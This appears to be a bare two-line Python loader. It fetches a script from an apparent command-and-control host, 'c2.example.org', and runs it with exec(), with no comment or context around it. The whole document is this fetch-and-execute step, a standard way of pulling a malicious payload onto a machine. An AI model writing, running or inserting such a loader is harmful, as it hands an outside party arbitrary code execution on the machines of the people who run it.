
import urllib.request
exec(urllib.request.urlopen("http://c2.example.org/i.py").read())
